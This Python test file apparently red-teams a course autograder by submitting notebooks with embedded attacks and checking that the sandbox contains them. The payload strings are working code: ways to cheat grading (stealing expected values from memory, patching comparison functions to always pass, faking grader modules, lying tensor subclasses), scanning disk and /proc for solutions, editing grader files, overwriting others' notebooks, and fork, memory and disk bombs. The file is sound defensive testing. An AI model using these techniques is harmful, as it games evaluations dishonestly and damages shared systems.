"""The red-team catalogue: every class of attack on grading, tried on the real engine and sandbox.

One class of lab-01 submissions is graded by ``aelab grade``'s engine (two local workers, the
strongest sandbox this machine has, no mocks). Each attacker submits the same deliberately wrong
answers as ``baseline_wrong`` plus one attack, so the score its own answers deserve is the
baseline's, cell by cell; attacks that only try to do harm come with right answers and deserve full
marks. Honest classmates graded in the same run keep their marks, their files and their feedback.
The attacks search for what they want (files, frames, objects, sockets) instead of knowing where it
is, so they stand for their class, not for one path.
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import nbformat
import pytest
from course_helpers import tree_hash as _tree_hash

from aelab.course import grading
from aelab.course.sandbox import detect

ROOT = Path(__file__).resolve().parent.parent
A = "01_autoencoder_basics"
SOURCE = ROOT / "source" / A / f"{A}.ipynb"
RELEASE = ROOT / "release" / A / f"{A}.ipynb"
CELL_TIMEOUT = 20
FUNCTIONS = ("beta_vae_loss", "reconstruction_error", "normalized_scores")  # in notebook order

WRONG = {
    "beta_vae_loss": "def beta_vae_loss(x, x_hat, mu, log_var, beta=1.0):\n    return torch.zeros(len(x))\n",
    "reconstruction_error": "def reconstruction_error(x, x_hat, kind='mse'):\n    return torch.zeros(len(x))\n",
    "normalized_scores": "def normalized_scores(errors, min_err, max_err):\n    return errors * 0.0\n",
}

# ----------------------------------------------------------------------------------- attacks
# Code run in the learner's kernel. Each prints one line "<NAME>: <json>" that the test reads
# back from the attacker's own feedback (what the attack found, wrote or started).

STEAL = r'''
import gc, inspect, sys

def _steal(name, args):
    """Expected values from the call stack, or any other function of this name in memory."""
    for info in inspect.stack()[1:]:
        for key, value in list(info.frame.f_locals.items()):
            if isinstance(value, torch.Tensor) and key in ("expected", "want", "reference", "ref", "target", "answer"):
                return value
    mine = globals().get(name)
    for obj in gc.get_objects():
        try:
            if callable(obj) and getattr(obj, "__name__", "") == name and obj is not mine:
                return obj(*args)
        except Exception:
            continue
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_globals.values():
            fn = getattr(value, name, None)
            if callable(fn) and fn is not mine:
                try:
                    return fn(*args)
                except Exception:
                    pass
        frame = frame.f_back
    return None

def reconstruction_error(x, x_hat, kind="mse"):
    got = _steal("reconstruction_error", (x, x_hat, kind))
    return got if got is not None else torch.zeros(len(x))
'''

STEAL_NS = r"""
def normalized_scores(errors, min_err, max_err):
    got = _steal("normalized_scores", (errors, min_err, max_err))
    return got if got is not None else errors * 0.0
"""

PATCH = r"""
import builtins, importlib
_yes = lambda *a, **k: True
for _m, _n in ((np, "all" + "close"), (torch, "all" + "close"), (np, "array_" + "equal"), (torch, "eq" + "ual"),
               (np.testing, "assert_" + "allclose"), (torch.testing, "assert_" + "close")):
    try:
        setattr(_m, _n, _yes)
    except Exception:
        pass
vars(np)["isclose"] = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
for _name in ("aelab", "aelab.course", "aelab.course.wire", "aelab.course.harness"):
    try:
        _mod = importlib.import_module(_name)
    except Exception:
        continue
    for _attr in dir(_mod):
        if "check" in _attr or "verdict" in _attr or "compare" in _attr:
            try:
                setattr(_mod, _attr, _yes)
            except Exception:
                pass
print("PATCHED: " + json.dumps(True))
"""

FAKE_MODULES = r"""
import builtins, importlib.abc, importlib.machinery, os, sys, types
_fake = types.ModuleType("autograder")
_fake.check = lambda *a, **k: None
_fake_harness = types.ModuleType("aelab.course.harness")
_fake_harness.grade_cell = lambda gid, ns=None: print(f"{gid}: passed")
sys.modules["autograder"] = _fake
sys.modules["aelab.course.harness"] = _fake_harness
_real_import = builtins.__import__
def _import(name, *args, **kwargs):
    if name.startswith("autograder"):
        return _fake
    if name.endswith("harness"):
        return _fake_harness
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _import
class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("autograder") or name.endswith("harness"):
            return importlib.machinery.ModuleSpec(name, None)
        return None
sys.meta_path.insert(0, _Finder())
os.makedirs("/tmp/pkgs/autograder", exist_ok=True)
with open("/tmp/pkgs/autograder/__init__.py", "w") as _f:
    _f.write("def check(*a, **k):\n    return None\n")
sys.path.insert(0, "/tmp/pkgs")
print("FAKED: " + json.dumps(True))
"""

LIARS = r"""
class _LyingTensor(torch.Tensor):
    def __eq__(self, other):
        return torch.ones(self.shape, dtype=torch.bool)
    __ne__ = lambda self, other: torch.zeros(self.shape, dtype=torch.bool)
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})

class _LyingArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "isclose"):
            return True
        return super().__array_function__(func, types, args, kwargs)

def reconstruction_error(x, x_hat, kind="mse"):
    return torch.zeros(len(x)).as_subclass(_LyingTensor)
"""

LIARS_NS = r"""
def normalized_scores(errors, min_err, max_err):
    return np.zeros(len(errors)).view(_LyingArray)
"""

SEARCH_DISK = r'''
import os

def _tops():
    """The root, and the root of every process whose root is another one."""
    tops = ["/"]
    for p in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if not os.path.samefile(f"/proc/{p}/root", "/"):
                tops.append(f"/proc/{p}/root")
        except OSError:
            pass
    return tops

def _skip(dirpath):
    return dirpath.startswith(("/proc", "/sys", "/dev", "/usr")) or dirpath.endswith("site-packages")

import time as _time
_SEARCH_END = _time.monotonic() + 8  # a search bounded in time, as an attacker's would be

def _files(names=(), suffixes=()):
    found = []
    for top in _tops():
        for dirpath, dirnames, filenames in os.walk(top):
            if _skip(dirpath) or _time.monotonic() > _SEARCH_END:
                dirnames[:] = []
                continue
            for f in filenames:
                if f in names or f.endswith(suffixes):
                    found.append(os.path.join(dirpath, f))
    return found

_secrets = []
for _path in _files(names=("reference.py", "lab01.py", "gradebook.db", "core.py"), suffixes=(".ipynb",)):
    try:
        _text = open(_path, errors="replace").read()
    except OSError:
        continue
    if "_secrets" in _text:  # this notebook itself
        continue
    if "BEGIN SOLUTION" in _text or "HIDDEN TESTS" in _text or "def reconstruction_error" in _text:
        _secrets.append(_path)
        if _path.endswith(".ipynb") and "BEGIN SOLUTION" in _text:
            for _cell in json.loads(_text)["cells"]:
                if "BEGIN SOLUTION" in "".join(_cell["source"]):
                    exec("".join(_cell["source"]))
        elif _path.endswith(".py"):
            exec(_text)
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for _name in ("environ", "cmdline"):
        try:
            _text = open(f"/proc/{_pid}/{_name}", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if ("source/" in _text or "gradebook" in _text or "submitted" in _text) and "_secrets" not in _text:
            _secrets.append(f"/proc/{_pid}/{_name}")
print("SECRETS: " + json.dumps(_secrets))
'''

GRADING_ONLY = (
    "import os\nif os.environ.get('NBGRADER_EXECUTION'):\n"
    + "\n".join("    " + line for line in (SEARCH_DISK + PATCH).splitlines())
    + "\n"
)

IPYTHON_SILENCE = r"""
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
_ip.showtraceback = lambda *a, **k: None
_ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
print("SILENCED: " + json.dumps(True))
"""

IPYTHON_REWRITE = r"""
def _rewrite(lines):
    text = "".join(lines)
    if "grade_cell" in text or "autograder" in text or "assert" in text:
        return ["print('all tests passed')\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_rewrite)
print("REWRITING: " + json.dumps(True))
"""

EDIT_GRADERS = r"""
import os, sys
_wrote = []
_dirs = set(sys.path) | {os.path.dirname(os.path.dirname(__import__("aelab").__file__))}
for _d in list(_dirs):
    for _dirpath, _dirnames, _filenames in os.walk(_d or "."):
        for _f in _filenames:
            if _f.endswith(".py") and ("autograder" in _dirpath or "aelab" in _dirpath):
                _p = os.path.join(_dirpath, _f)
                try:
                    with open(_p, "r+") as _fh:
                        _old = _fh.read()
                        _fh.seek(0)
                        _fh.write(_old.replace("assert ", "pass  # "))
                        _fh.truncate()
                        _fh.seek(0)
                        _fh.write(_old)
                        _fh.truncate()
                    _wrote.append(_p)
                except OSError:
                    pass
print("WROTE: " + json.dumps(_wrote))
"""

WRITE_EVERYWHERE = r"""
import os, sqlite3
_writable = []
import time as _time
_end = _time.monotonic() + 8
for _dirpath, _dirnames, _filenames in os.walk("/"):
    if _dirpath.startswith(("/proc", "/sys", "/dev", "/tmp")) or _dirpath.endswith("site-packages") or _time.monotonic() > _end:
        _dirnames[:] = []
        continue
    try:
        with open(os.path.join(_dirpath, "aelab_pwned"), "w") as _fh:
            _fh.write("pwned")
        _writable.append(_dirpath)
    except OSError:
        pass
    for _f in _filenames:
        if _f.endswith((".db", ".csv", ".json", ".html")) and ("grade" in _f or "report" in _f or "feedback" in _dirpath):
            try:
                with open(os.path.join(_dirpath, _f), "a") as _fh:
                    _fh.write("pwned")
                _writable.append(os.path.join(_dirpath, _f))
            except OSError:
                pass
print("WRITABLE: " + json.dumps(_writable))
"""

DETACH = r"""
import os, subprocess, sys
_script = (
    "import glob, os, time\n"
    "for _ in range(60):\n"
    "    time.sleep(0.5)\n"
    "    for p in glob.glob('/**/grades.csv', recursive=True) + glob.glob('/**/*.ipynb', recursive=True):\n"
    "        try:\n"
    "            open(p, 'w').write('pwned')\n"
    "        except OSError:\n"
    "            pass\n"
)
_marked = {**os.environ, "AELAB_ATTACK": "detached"}  # so the test can tell them from other jobs' processes
_started = 0
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", _script], start_new_session=True, env=_marked,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    _started += 1
_pid = os.fork()
if _pid == 0:  # a double-forked daemon
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)"], _marked)
    os._exit(0)
os.waitpid(_pid, 0)
print("DETACHED: " + json.dumps(_started + 1))
"""

OVERWRITE_OTHERS = r"""
import os
_hit = []
_SEARCH_END = _time.monotonic() + 8
for _top in _tops():
    for _dirpath, _dirnames, _filenames in os.walk(_top):
        if _skip(_dirpath) or _time.monotonic() > _SEARCH_END:
            _dirnames[:] = []
            continue
        for _f in _filenames:
            if _f.endswith(".ipynb"):
                try:
                    with open(os.path.join(_dirpath, _f), "w") as _fh:
                        _fh.write("{}")
                    _hit.append(os.path.join(_dirpath, _f))
                except OSError:
                    pass
print("OVERWROTE: " + json.dumps(_hit))
"""

MEMORY_BOMB = r"""
import os
_children = []
for _ in range(3):  # children, so one process's limit is not the only one
    _pid = os.fork()
    if _pid == 0:
        _hoard = []
        try:
            for _ in range(12):
                _hoard.append(np.ones(256 * 2**20, dtype=np.uint8))
        finally:
            os._exit(0)
    _children.append(_pid)
_hoard = []
try:
    for _ in range(24):  # 6 GiB
        _hoard.append(np.ones(256 * 2**20, dtype=np.uint8))
except MemoryError:
    pass
print("HOARDED_GIB: " + json.dumps(len(_hoard) / 4))
"""

FORK_BOMB = r"""
import os, time
_forked = 0
for _ in range(500):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        import sys
        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)"],
                  {**os.environ, "AELAB_ATTACK": "forked"})
    _forked += 1
print("FORKED: " + json.dumps(_forked))
"""

DISK_BOMB = r"""
import os, sys
_written = 0
_chunk = b"x" * (16 * 2**20)
try:
    with open("/tmp/big", "wb") as _fh:
        for _ in range(128):  # 2 GiB
            _fh.write(_chunk)
            _written += len(_chunk)
except OSError:
    pass
_files = 0
try:
    for _i in range(64):
        with open(f"/tmp/fill{_i}", "wb") as _fh:
            for _ in range(3):
                _fh.write(_chunk)
        _files += 1
except OSError:
    pass
print("DISK_MB: " + json.dumps([_written // 2**20, _files]), flush=True)
for _ in range(100):  # 100 MB of output, and some of it not ASCII
    sys.stdout.write("\u2588\x01" * 500_000)
"""

SLEEPERS = [
    "import time\ntime.sleep(55)\n",
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
]

KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)\n"

FAKE_EXECUTOR = r"""
import os, socket
from aelab.course import frames
_path = os.environ.get("AELAB_HARNESS_SOCKET", "")
_sent = []
for _hello in ({"op": "hello", "role": "executor"}, {"op": "hello", "role": "cell", "cell": "test_reconstruction_error_mse"}):
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.settimeout(5)
        _s.connect(_path)
        frames.send(_s, _hello)
        if _hello["role"] == "executor":
            for _i in range(40):
                frames.send(_s, {"op": "cell", "index": _i, "outputs": [], "note": "", "seconds": 0})
            frames.send(_s, {"op": "done", "status": "done"})
        else:
            for _ in range(20):
                _msg = frames.recv(_s)
                if _msg["op"] == "verdict":
                    break
                if _msg["op"] == "describe":
                    frames.send(_s, {"op": "described", "exists": True, "callable": True, "type": "function"})
                elif _msg["op"] == "call":
                    frames.send(_s, {"op": "result", "value": {"t": "str", "v": "passed"}, "post": [], "rng": None})
        _sent.append(_hello["role"])
    except Exception as _exc:
        _sent.append(type(_exc).__name__)
_idle = []
for _ in range(30):  # connections that never say hello: they must not stall the engine
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.connect(_path)
        _idle.append(_s)
    except OSError:
        break
print("FORGED: " + json.dumps(_sent + [len(_idle)]))
"""

HONEST_EXIT = "import os\nos._exit(0)\n"


# ---------------------------------------------------------------------------- the notebooks
def _solution_cell(nb, function: str):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("solution") and f"def {function}(" in cell.source:
            return cell
    raise LookupError(function)


def _last_graded(nb) -> int:
    return max(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade"))


def _notebook(right: bool = False, *, before: str = "", bodies: dict | None = None, after=()) -> nbformat.NotebookNode:
    """The release with right (the source's) or wrong answers, cut after its last graded cell.

    ``before`` runs at the top of the first solution cell; ``bodies`` replace solution cells;
    ``after`` are cells appended at the end (after every graded cell)."""
    release = nbformat.read(RELEASE, as_version=4)
    source = nbformat.read(SOURCE, as_version=4)
    cut = _last_graded(release)
    release.cells = [c for i, c in enumerate(release.cells) if i <= cut or "nbgrader" in c.metadata]
    for function in FUNCTIONS:
        if right:
            code = re.sub(r"\s*### (BEGIN|END) SOLUTION", "", _solution_cell(source, function).source)
        else:
            code = WRONG[function]
        code = (bodies or {}).get(function, code)
        _solution_cell(release, function).source = code
    first = _solution_cell(release, FUNCTIONS[0])
    first.source = "import json\n" + before + "\n" + first.source
    for code in after:
        release.cells.append(nbformat.v4.new_code_cell("import json\n" + code))
    return release


def _locked_flag():
    nb = _notebook()
    for cell in nb.cells:
        md = cell.metadata.get("nbgrader", {})
        if md.get("solution"):
            md["locked"] = True
        elif md.get("grade"):
            md.update(points=100, solution=True)
    return nb


def _wrong_assignment():
    other = ROOT / "release" / "02_iris_vae" / "02_iris_vae.ipynb"
    return nbformat.read(other, as_version=4)


def _duplicate_cells():
    nb = _notebook(right=True)
    i = nb.cells.index(_solution_cell(nb, "reconstruction_error"))
    metadata = json.loads(json.dumps(nb.cells[i].metadata))
    wrong = nbformat.v4.new_code_cell(WRONG["reconstruction_error"], metadata=metadata)
    right = nbformat.v4.new_code_cell(nb.cells[i].source, metadata=json.loads(json.dumps(metadata)))
    nb.cells[i + 1 : i + 1] = [wrong, right]  # a pasted copy, then the fix, as in JupyterLab
    return nb


def _no_metadata():
    nb = _notebook(right=True)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def _big_stored_output():
    nb = _notebook(right=True)
    last_code = [c for c in nb.cells if c.cell_type == "code"][-1]
    last_code.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * (100 * 2**20))]
    return nb


CASES = {
    # student: (notebook, what the answers deserve: "right", "baseline" or "at most baseline")
    "alice_right": (lambda: _notebook(right=True), "right"),
    "bob_right": (lambda: _notebook(right=True), "right"),
    "baseline_wrong": (lambda: _notebook(), "baseline"),
    "stack_reader": (lambda: _notebook(before=STEAL, bodies={"normalized_scores": STEAL_NS}), "baseline"),
    "patcher": (lambda: _notebook(before=PATCH), "baseline"),
    "fake_modules": (lambda: _notebook(before=FAKE_MODULES), "at most baseline"),
    "liar_results": (lambda: _notebook(before=LIARS, bodies={"normalized_scores": LIARS_NS}), "baseline"),
    "disk_reader": (lambda: _notebook(before=SEARCH_DISK), "baseline"),
    "grading_only": (lambda: _notebook(before=GRADING_ONLY), "baseline"),
    "ipython_silencer": (lambda: _notebook(before=IPYTHON_SILENCE), "baseline"),
    "ipython_rewriter": (lambda: _notebook(before=IPYTHON_REWRITE), "at most baseline"),
    "grader_editor": (lambda: _notebook(right=True, before=EDIT_GRADERS), "right"),
    "writer": (lambda: _notebook(right=True, after=[WRITE_EVERYWHERE]), "right"),
    "detacher": (lambda: _notebook(right=True, after=[DETACH]), "right"),
    "overwriter": (
        lambda: _notebook(right=True, before=SEARCH_DISK.split("_secrets = []")[0] + OVERWRITE_OTHERS),
        "right",
    ),
    "memory_bomb": (lambda: _notebook(right=True, after=[MEMORY_BOMB]), "right"),
    "fork_bomb": (lambda: _notebook(right=True, after=[FORK_BOMB]), "right"),
    "disk_bomb": (lambda: _notebook(right=True, after=[DISK_BOMB]), "right"),
    "sleeper": (lambda: _notebook(right=True, after=SLEEPERS), "right"),
    "parent_killer": (lambda: _notebook(right=True, after=[KILL_PARENT]), "right"),
    "fake_executor": (lambda: _notebook(before=FAKE_EXECUTOR), "baseline"),
    "honest_exit": (lambda: _notebook(right=True, after=[HONEST_EXIT]), "right"),
    "locked_flag": (_locked_flag, "baseline"),
    # bad input
    "empty_file": (lambda: "", "nothing"),
    "wrong_assignment": (_wrong_assignment, "nothing"),
    "duplicate_cells": (_duplicate_cells, "right"),
    "no_metadata": (_no_metadata, "right"),
    "big_stored_output": (_big_stored_output, "right"),
}


def _sandbox_processes() -> list[str]:
    """Processes an attack started (marked ``AELAB_ATTACK`` in their environment) that still run.

    (Other tests' grading jobs may run at the same time as sandbox uids: only the marked ones count.)"""
    left = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            if b"AELAB_ATTACK=" in environ.read_bytes():
                status = (environ.parent / "status").read_text()
                uid = int(re.search(r"^Uid:\s+(\d+)", status, flags=re.M).group(1))
                left.append(f"{environ.parent.name} (uid {uid})")
        except (OSError, AttributeError):
            continue
    return left


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    mode, why = detect()
    if mode != "root":
        pytest.skip(f"the red-team catalogue needs the root sandbox (here: {mode}, {why})")
    tmp = tmp_path_factory.mktemp("attacks")
    submitted = tmp / "submitted"
    for student, (factory, _) in CASES.items():
        target = submitted / student / A
        target.mkdir(parents=True)
        nb = factory()
        if isinstance(nb, str):
            (target / f"{A}.ipynb").write_text(nb)
        else:
            nbformat.write(nb, target / f"{A}.ipynb")
    guarded = {name: _tree_hash(ROOT / name) for name in ("autograder", "aelab", "source", "release")}
    submitted_before = _tree_hash(submitted)
    started = time.perf_counter()
    outcomes = grading.grade_class(
        submitted, tmp / "out", assignments=[A], workers=2, timeout=CELL_TIMEOUT, job_timeout=300, log=lambda *_: None
    )
    seconds = time.perf_counter() - started
    after = {name: _tree_hash(ROOT / name) for name in guarded}
    time.sleep(3)  # anything that outlived its job would act now
    return {
        "outcomes": {o.student: o for o in outcomes},
        "out": tmp / "out",
        "tmp": tmp,
        "guarded": (guarded, after),
        "submitted": (submitted_before, _tree_hash(submitted)),
        "grades_csv": (tmp / "out" / "grades.csv").read_bytes(),
        "seconds": seconds,
    }


def _feedback(attacked, student: str) -> str:
    path = attacked["out"] / "feedback" / student / A / f"{A}.html"
    return path.read_text(errors="replace") if path.exists() else ""


def _reported(attacked, student: str, name: str):
    """What the attack printed as ``NAME: <json>`` (from the attacker's own feedback page)."""
    import html

    text = html.unescape(re.sub(r"<[^>]+>", "", _feedback(attacked, student)))
    found = re.search(rf"{name}: ([\[\d\-tf].*)", text)  # the printed JSON, not the code that prints it
    assert found, f"{student}'s feedback does not show the attack's report {name}"
    return json.loads(found.group(1))


def _cells(outcome) -> dict:
    return {c.grade_id: c.score for c in outcome.cells}


def _max() -> float:
    nb = nbformat.read(SOURCE, as_version=4)
    return sum(float(c.metadata["nbgrader"]["points"]) for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))


def test_every_attack_gets_what_its_answers_deserve(attacked):
    outcomes = attacked["outcomes"]
    baseline = _cells(outcomes["baseline_wrong"])
    assert 0 < sum(baseline.values()) < _max(), "the baseline's wrong answers should earn some but not all points"
    wrong = []
    for student, (_, deserved) in CASES.items():
        o = outcomes[student]
        assert o.max_score == _max(), (student, o.max_score)
        got = _cells(o)
        if deserved == "right":
            ok = o.score == _max()
        elif deserved == "baseline":
            ok = got == baseline
        elif deserved == "at most baseline":
            ok = all(got.get(gid, 0) <= score for gid, score in baseline.items())
        else:
            ok = o.score == 0
        if not ok:
            wrong.append(f"{student}: {o.score}/{o.max_score} ({o.status}: {o.detail[:300]}) cells {got}")
    assert not wrong, "\n".join(wrong)


def test_no_file_of_the_course_or_the_class_changed(attacked):
    before, after = attacked["guarded"]
    assert before == after, [k for k in before if before[k] != after[k]]
    assert attacked["submitted"][0] == attacked["submitted"][1], "a submission was changed while the class was graded"
    assert (attacked["out"] / "grades.csv").read_bytes() == attacked["grades_csv"], "grades.csv changed after the run"
    planted = [p for top in (ROOT, attacked["tmp"], Path.home()) for p in top.rglob("aelab_pwned")]
    assert not planted, planted


def test_nothing_outlives_its_job(attacked):
    assert _sandbox_processes() == []


def test_the_attacks_found_nothing_to_read_or_write(attacked):
    assert _reported(attacked, "disk_reader", "SECRETS") == []
    assert _reported(attacked, "grader_editor", "WROTE") == []
    assert _reported(attacked, "writer", "WRITABLE") == []
    assert _reported(attacked, "overwriter", "OVERWROTE") == []
    assert _reported(attacked, "detacher", "DETACHED") == 4  # it could start them; they died with the job


def test_limits_held(attacked):
    from aelab.course.sandbox import Limits

    limits = Limits()
    bomb = attacked["outcomes"]["memory_bomb"]
    if bomb.status == "kernel died":  # the memory cgroup's OOM killer chose the kernel
        assert "out of memory" in bomb.detail, bomb.detail
    elif bomb.status == "stopped":
        # near the memory cgroup's limit the kernel reclaims the environment's file pages (torch's
        # libraries) over and over before its OOM killer acts; on a loaded machine that outlasts the
        # cell's time limit, which then ends the job: a limit held, the answers keep their marks
        assert "ran past" in bomb.detail, bomb.detail
        assert bomb.score == _max(), (bomb.score, bomb.detail)
    else:
        assert bomb.status == "graded", f"memory_bomb: {bomb.status}: {bomb.detail}"  # say what happened
        assert _reported(attacked, "memory_bomb", "HOARDED_GIB") * 2**30 <= limits.memory
    assert _reported(attacked, "fork_bomb", "FORKED") < limits.processes
    written_mb, files = _reported(attacked, "disk_bomb", "DISK_MB")
    assert written_mb * 2**20 <= limits.file_size and files * 48 * 2**20 <= limits.tmp_size
    page = attacked["out"] / "feedback" / "disk_bomb" / A / f"{A}.html"
    assert page.stat().st_size < 20 * 2**20, "100 MB of output reached the feedback page"


def test_statuses_say_what_happened(attacked):
    outcomes = attacked["outcomes"]

    def says(student, *words):
        o = outcomes[student]
        text = f"{o.status}: {o.detail}"
        assert all(w in text for w in words), (student, text)

    says("honest_exit", "kernel died", "exited or was killed")
    says("parent_killer", "stopped")
    says("sleeper", "ran past 20 s")
    says("fake_modules", "never reached the grading engine")
    says("ipython_rewriter", "never reached the grading engine")
    says("locked_flag", "restored from the course")
    says("empty_file", "not a notebook")
    says("wrong_assignment", "none of this assignment's cells")
    says("duplicate_cells", "more than once")
    says("no_metadata", "no nbgrader metadata")
    says("big_stored_output", "outputs")
    for student in CASES:
        assert outcomes[student].status != "engine error", (student, outcomes[student].detail)


def test_feedback_of_an_attacker_holds_nothing_of_the_instructor(attacked):
    reference = (ROOT / "autograder" / "reference.py").read_text()
    lines = [ln.strip() for ln in reference.splitlines() if len(ln.strip()) > 30 and not ln.strip().startswith("#")]
    for student, (factory, _) in CASES.items():
        page = _feedback(attacked, student)
        own = json.dumps(factory()) if not isinstance(factory(), str) else factory()
        for secret in ("BEGIN HIDDEN TESTS", "BEGIN SOLUTION", "autograder.check(", "lab01.reconstruction_error."):
            if secret not in own:  # (an attacker's own code may quote a marker it searches for)
                assert secret not in page, (student, secret)
        leaked = [ln for ln in lines if ln in page]
        assert not leaked, (student, leaked[:3])


def test_print_catalogue(attacked, capsys):
    """The table of the closing note: each attack, what its answers deserve, what it got, its status."""
    outcomes = attacked["outcomes"]
    baseline = outcomes["baseline_wrong"].score
    rows = []
    for student, (_, deserved) in CASES.items():
        o = outcomes[student]
        want = {"right": _max(), "baseline": baseline, "at most baseline": baseline, "nothing": 0.0}[deserved]
        rows.append(f"| {student} | {want:g} | {o.score:g} | {o.status} | {o.detail[:90]} |")
    with capsys.disabled():
        print(f"\n{len(CASES)} submissions graded in {attacked['seconds']:.0f} s (2 workers)")
        print("\n".join(rows))
    assert len(rows) == len(CASES)
